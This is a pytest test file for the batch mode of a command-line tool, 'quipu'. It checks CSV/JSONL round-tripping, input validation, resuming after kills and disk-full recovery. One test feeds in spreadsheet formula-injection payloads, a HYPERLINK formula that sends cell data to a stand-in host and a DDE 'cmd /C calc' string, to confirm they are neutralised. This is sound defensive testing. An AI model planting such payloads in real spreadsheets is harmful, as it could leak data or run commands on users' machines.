"""``quipu run --batch``: every row once, whatever happens in between."""

import csv
import io
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import quipu
from quipu.cli import main
from quipu.cli.tables import Csv, JsonLines, added_names
from quipu.engine.fake import fake_model

HERE = Path(__file__).parent


@pytest.fixture(autouse=True)
def place(tmp_path, monkeypatch, environment):
    """A working folder, and the sample among the capabilities."""
    (tmp_path / "capabilities").mkdir()
    shutil.copy(HERE / "sample_capability.py", tmp_path / "capabilities" / "sample.py")
    monkeypatch.setenv("QUIPU_CAPABILITIES", str(tmp_path / "capabilities"))
    monkeypatch.chdir(tmp_path)
    environment["QUIPU_CAPABILITIES"] = str(tmp_path / "capabilities")
    return tmp_path


def batch(*words: str) -> int:
    [source] = [each for each in ("in.csv", "in.jsonl") if Path(each).exists()]
    return main(["run", "sample", "--batch", source, "--output", source.replace("in", "out"), *words])


def rows(path: str) -> list[dict]:
    text = Path(path).read_text("utf-8-sig")
    if path.endswith("csv"):
        return list(csv.DictReader(io.StringIO(text, newline="")))
    return [json.loads(line) for line in text.splitlines()]


def test_csv(loads, capsys):
    data = '\ufeffid,text,words\r\n1,"Grüße, ""Welt""",\r\n\r\n2,"two\r\nlines",20\r\n3,unreadable,5\r\n4,x,many\r\n'
    Path("in.csv").write_bytes(data.encode())
    assert batch("--tone", "loud") == 1
    assert "quipu: 2 of 4 rows failed; the column error of out.csv says why" in capsys.readouterr().err
    assert Path("out.csv").read_bytes().decode() == (
        "\ufeffid,text,words,said,count,error\r\n"
        '1,"Grüße, ""Welt""",,"YOU SAID: GRÜSSE, ""WELT""",4,\r\n'
        '2,"two\r\nlines",20,"YOU SAID: TWO\r\nLINES",4,\r\n'
        "3,unreadable,5,,,the answer is no answer; the model said: You said: unreadable\r\n"
        "4,x,many,,,words: 'many' is not a whole number\r\n"
    )
    assert sorted(path.name for path in Path().iterdir()) == ["capabilities", "in.csv", "out.csv", "out.csv.journal"]


def test_jsonl_stays_to_the_byte(loads, capsys):
    lines = [
        '{"text": "a", "n": 1.50e3, "n": 2}',
        "",
        '{ "text" : "b\\ud83e\\udd99" , "said":null }',
        '{"text": null}',
        "{}",
    ]
    Path("in.jsonl").write_text("\n".join(lines))
    assert batch() == 1
    assert Path("out.jsonl").read_text() == (
        '{"text": "a", "n": 1.50e3, "n": 2, "sample_said": "You said: a", "count": 3}\n'
        '{ "text" : "b\\ud83e\\udd99" , "said":null, "sample_said": "You said: b🦙", "count": 3}\n'
        '{"text": null, "error": "text should be a valid string, got None"}\n'
        '{"error": "text is missing"}\n'
    )


def test_columns_are_named(loads, capsys):
    Path("in.csv").write_text("body;text;said;sample_said\nhello;no;x;y\n")
    assert batch("--column", "text=body") == 0
    assert Path("out.csv").read_text() == (
        "body;text;said;sample_said;sample_sample_said;count;error\nhello;no;x;y;You said: hello;3;\n"
    )
    assert capsys.readouterr().err == "1 rows in out.csv\n"


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["--column", "text=boddy"], "--column: no column of in.csv is called 'boddy'; did you mean body?"),
        (["--column", "tezt=body"], "--column: no field is called 'tezt'; did you mean text?"),
        (["--column", "text"], "no column of in.csv is called ''"),
        ([], "no column of in.csv is called text; name it with --column text=COLUMN (there are body)"),
        (["--text", "x", "--column", "text=body"], "text is given twice"),
        (["--column", "text=body", "--output", "out.jsonl"], "out.jsonl must end in .csv"),
        (["--column", "text=body", "--output", "in.csv"], "in.csv is there already"),
        (["--column", "text=body", "--output", "no/out.csv"], "no/out.csv.journal cannot be written: No such file"),
        (["--batch", "missing.csv"], "missing.csv cannot be read: No such file"),
        (["--batch", "in.xlsx"], "in.xlsx is no table that is read; name a .csv or a .jsonl file"),
    ],
)
def test_a_wrong_call_is_refused(words, said, loads, capsys):
    Path("in.csv").write_text("body\nhello\n")
    assert batch(*words) == 1
    assert said in capsys.readouterr().err


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("in.csv", b"", "is empty; its first line must name the columns"),
        ("in.csv", b"text\n", "has no rows"),
        ("in.csv", b"text,text\n1,2\n", "line 1: two columns are called 'text'; rename one"),
        ("in.csv", b"text,,x\n1,2,3\n", "line 1: column 2 has no name; give it one"),
        ("in.csv", b'text,n\n"a\nb",1\nc\n', "line 4: row 2 has 1 cells, the header 2"),
        ("in.csv", b"text,n\na,1,2\n", "line 2: row 1 has 3 cells, the header 2"),
        ("in.csv", b'text\n"open\n', "is not CSV: unexpected end of data"),
        ("in.csv", b'text\n"a"b\n', "line 2: is not CSV: "),
        ("in.csv", b"text\ncaf\xe9\n", "line 2: is not UTF-8 (invalid continuation byte); convert the file"),
        ("in.csv", "\ufefftext\nx\n".encode("utf-16-le"), "is UTF-16; save it as CSV in UTF-8"),
        ("in.jsonl", b"", "has no rows"),
        ("in.jsonl", b'{"text": "a"}\n{"text": \n', "line 2: is not JSON: Expecting value"),
        ("in.jsonl", b'{"text": "a"}\n["text"]\n', 'line 2: is ["text"], not an object such as {"text": "..."}'),
        ("in.jsonl", b'{"text": NaN}\n', "line 1: is not JSON: NaN is no number of JSON"),
        ("in.jsonl", b"[" * 100_000, "line 1: is not JSON"),
        ("in.jsonl", b'{"text": "\xff"}\n', "line 1: is not UTF-8"),
    ],
)
def test_a_broken_table_is_refused_by_line(name, data, said, loads, capsys):
    Path(name).write_bytes(data)
    assert batch() == 1
    assert said in capsys.readouterr().err
    assert not loads


@settings(max_examples=60)
@given(
    st.lists(
        st.fixed_dictionaries({"text": st.text(st.characters(codec="utf-8", exclude_characters="\r\0"))}), min_size=1
    )
)
def test_tables_come_back_as_they_were(tmp_path_factory, cells):
    folder = tmp_path_factory.mktemp("tables")
    with (folder / "in.csv").open("w", newline="") as opened:
        writer = csv.DictWriter(opened, ["id", "text"], lineterminator="\n")
        writer.writeheader()
        writer.writerows({"id": "x", **row} for row in cells)
    (folder / "in.jsonl").write_text("".join(json.dumps(row) + "\n" for row in cells))
    for table in (Csv(folder / "in.csv"), JsonLines(folder / "in.jsonl")):
        assert [row["text"] for row in table.read()] == [row["text"] for row in cells]
        merged = b"".join(table.merged(["new"], ([{"new": "x" + row["text"]}] for row in cells))).decode()
        again = (
            csv.DictReader(io.StringIO(merged, newline=""))
            if isinstance(table, Csv)
            else map(json.loads, merged.split("\n")[:-1])
        )
        assert [(row["text"], row["new"]) for row in again] == [(row["text"], "x" + row["text"]) for row in cells]


@pytest.mark.parametrize(
    ("said", "cell"),
    [
        ('=HYPERLINK("http://x.invalid/?"&A1)', '\'=HYPERLINK("http://x.invalid/?"&A1)'),
        ("@SUM(1)", "'@SUM(1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("- one\n- two", "'- one\n- two"),
        ("\t=1", "'\t=1"),
        ("-4.5", "-4.5"),
        ("+1", "+1"),
        ("1=1", "1=1"),
        ("", ""),
    ],
)
def test_no_spreadsheet_computes_what_a_model_wrote(said, cell):
    """Nor is what the file held before touched, or JSONL."""
    Path("in.csv").write_text("text\n=1+1\n")
    Path("in.jsonl").write_text('{"text": "=1+1"}\n')
    read, lines = Csv(Path("in.csv")), JsonLines(Path("in.jsonl"))
    written = b"".join(read.merged(["new"], [[{"new": said}]])).decode()
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["text", "new"], ["=1+1", cell]]
    assert read.marked == (said != cell)
    assert json.loads(b"".join(lines.merged(["new"], [[{"new": said}]]))) == {"text": "=1+1", "new": said}


def test_marked_cells_are_told(loads, capsys, monkeypatch):
    monkeypatch.setattr(quipu, "load", lambda model, **options: fake_model(lambda asked: asked, name=model))
    Path("in.csv").write_text("text\n=1+1\nhello\n")
    assert batch() == 0
    assert capsys.readouterr().err == ("2 rows in out.csv; 1 cells begin with ' so that no spreadsheet computes them\n")


def test_added_names_are_free():
    assert added_names(["a", "b"], ["a", "x_a"], "x") == {"a": "x_x_a", "b": "b"}


# ---- going on


def write_rows(count: int) -> None:
    Path("in.jsonl").write_text("".join(json.dumps({"text": f"row-{number}."}) + "\n" for number in range(count)))


def start(*words: str) -> subprocess.Popen[bytes]:
    """A batch over a fake model that takes its time and writes down what it is asked."""
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2] / "src"), "FAKE_SECONDS": "0.0005"}
    command = [sys.executable, str(HERE / "fake_command.py"), "run", "sample"]
    command += ["--batch", "in.jsonl", "--output", "out.jsonl", *words]
    environment["FAKE_ASKED"] = "asked"
    return subprocess.Popen(command, env=environment, stderr=subprocess.PIPE)


def finished() -> list[int]:
    """The rows in the journal, without a torn last line."""
    if not Path("out.jsonl.journal").exists():
        return []
    lines = Path("out.jsonl.journal").read_bytes().split(b"\n")[1:-1]
    return [json.loads(line)["row"] for line in lines]


@pytest.mark.slow
def test_killed_at_random_moments_every_row_is_there_once():
    count, chance, kills = 80, random.Random(4), 0
    write_rows(count)
    done_before: set[int] = set()
    for _ in range(30):
        Path("asked").unlink(missing_ok=True)
        process = start()
        target = len(done_before) + chance.randint(1, 30)
        while process.poll() is None and len(finished()) < target:
            time.sleep(chance.random() / 50)
        process.send_signal(signal.SIGKILL)
        killed = process.wait() == -signal.SIGKILL
        kills += killed
        asked = (
            set(map(int, re.findall(r"row-(\d+)\.", Path("asked").read_text()))) if Path("asked").exists() else set()
        )
        assert not asked & done_before  # what was finished is not asked again
        process.stderr.close()
        if not killed:
            assert process.returncode == 0
            break
        now = finished()
        assert len(now) == len(set(now))
        assert done_before <= set(now)
        done_before = set(now)
    assert kills >= 3
    assert rows("out.jsonl") == [
        {"text": f"row-{number}.", "said": f"You said: row-{number}.", "count": 3} for number in range(count)
    ]
    assert not Path("out.jsonl.journal").exists()


def test_the_same_call_asks_rows_that_failed_again_and_no_others(loads, capsys, monkeypatch):
    """Also when it is ended in between: each time no more than those that failed the time before."""
    asked: list[str] = []
    bad = {"row-3.", "row-7."}

    def answer(text: str) -> str:
        asked.append(text)
        return "unreadable" if text in bad else f"You said: {text}"

    def again() -> int:
        asked.clear()
        return batch()

    monkeypatch.setattr(quipu, "load", lambda model, **options: fake_model(answer, name=model))
    write_rows(10)
    assert again() == 1
    assert "2 of 10 rows failed; the column error of out.jsonl says why; the same call asks them again" in (
        capsys.readouterr().err
    )
    first = rows("out.jsonl")
    assert [place for place, row in enumerate(first) if "error" in row] == [3, 7]
    bad.remove("row-3.")
    assert again() == 1
    assert set(asked) == {"row-3.", "row-7."}
    bad.clear()
    journal = Path("out.jsonl.journal")
    lines = journal.read_bytes().splitlines(keepends=True)
    [repaired] = [line for line in lines[12:] if b'"row": 3' in line]
    journal.write_bytes(b"".join(lines[:12]) + repaired + b'{"row": 7, "err')  # the second time ended by kill -9
    assert again() == 0
    assert set(asked) == {"row-7."}
    assert rows("out.jsonl") == [
        {"text": f"row-{number}.", "said": f"You said: row-{number}.", "count": 3} for number in range(10)
    ]
    assert not journal.exists()
    assert batch() == 1
    assert "out.jsonl is there already" in capsys.readouterr().err


def test_a_torn_line_is_done_again_and_another_batch_refused(loads, capsys, monkeypatch):
    write_rows(50)
    monkeypatch.setattr(quipu, "load", lambda model, **options: fake_model(name=model, context_length=12000))

    def interrupted(*words: str) -> str:
        code = batch(*words)
        return f"{code} {capsys.readouterr().err}"

    process = start("--model", "m")
    while len(finished()) < 1:
        time.sleep(0.01)
    assert "is being written by another process" in interrupted("--model", "m")
    process.kill()
    process.wait()
    process.stderr.close()
    path = Path("out.jsonl.journal")
    whole = path.read_bytes()
    header = json.loads(whole.split(b"\n")[0])
    assert set(header) == {"journal", "input", "capability", "option", "model"}
    assert "was begun with another option" in interrupted("--model", "m", "--tone", "loud")
    assert "was begun with another option" in interrupted("--model", "m", "--temperature", "0")
    assert "was begun with another model" in interrupted("--model", "other")
    Path("in.jsonl").write_text('{"text": "other"}\n' * 50)
    assert "was begun with another input" in interrupted("--model", "m")
    write_rows(50)
    path.write_bytes(whole.replace(b'{"row"', b'{"raw"', 1))
    assert "out.jsonl.journal, line 2: the journal is damaged; delete it" in interrupted("--model", "m")
    path.write_bytes(b"a letter to somebody")
    assert "line 1: the journal is damaged" in interrupted("--model", "m")
    assert path.read_bytes() == b"a letter to somebody"
    for torn in (whole + b'{"row": 49, "outp', whole[:100], b""):
        path.write_bytes(torn)
        assert interrupted("--model", "m") == "0 50 rows in out.jsonl\n"
        assert [row["count"] for row in rows("out.jsonl")] == [3] * 50
        Path("out.jsonl").unlink()


def test_a_full_disk_keeps_what_is_finished():
    write_rows(60)
    limited = (
        f"ulimit -f 4; exec {sys.executable} {HERE / 'fake_command.py'} run sample --batch in.jsonl --output out.jsonl"
    )
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2] / "src")}
    done = subprocess.run(["bash", "-c", limited], capture_output=True, text=True, env=environment)
    assert done.returncode == 1
    assert re.search(
        r"out.jsonl.journal cannot be written: File too large; make room and call it again: \d+ finished", done.stderr
    )
    kept = len(finished())
    assert kept > 5
    process = start()
    assert process.wait(60) == 0
    process.stderr.close()
    assert len(rows("out.jsonl")) == 60
    assert len(re.findall("row-", Path("asked").read_text())) == 60 - kept


def test_control_c_says_what_is_kept():
    write_rows(100)
    process = start()
    while len(finished()) < 5:
        time.sleep(0.01)
    process.send_signal(signal.SIGINT)
    said = process.communicate(timeout=60)[1].decode()
    assert process.returncode == 130
    assert re.search(r"interrupted; \d+ of 100 rows are finished and kept; the same call goes on", said)


def test_a_stopped_engine_is_not_the_rows_fault(loads, capsys, monkeypatch):
    def load(model: str, **options: object) -> quipu.LocalModel:
        fake = fake_model(name=model)
        fake.close()
        return fake

    monkeypatch.setattr(quipu, "load", load)
    write_rows(3)
    assert batch() == 1
    assert "closed" in capsys.readouterr().err
    assert not Path("out.jsonl").exists()
    assert finished() == []


@pytest.mark.slow
def test_memory_stays_small_for_many_rows():
    """The engine is out of it: only reading, journal and writing."""
    code = (
        "import json, resource\nfrom pathlib import Path\nfrom quipu.cli.journal import Journal\n"
        "from quipu.cli.tables import table\n"
        "with open('big.jsonl', 'w') as out:\n"
        "    for n in range(100_000): out.write(json.dumps({'text': 'x' * 500, 'n': n}) + '\\n')\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "rows = table(Path('big.jsonl'))\n"
        "with open('o', 'wb') as out:\n"
        "    for piece in rows.merged(['y'], ([{'y': 'z' * 500}] for _ in range(rows.rows))): out.write(piece)\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)"
    )
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2] / "src")}
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=environment)
    assert int(done.stdout) < 20_000, done.stderr  # KiB, for a file of 52 MB
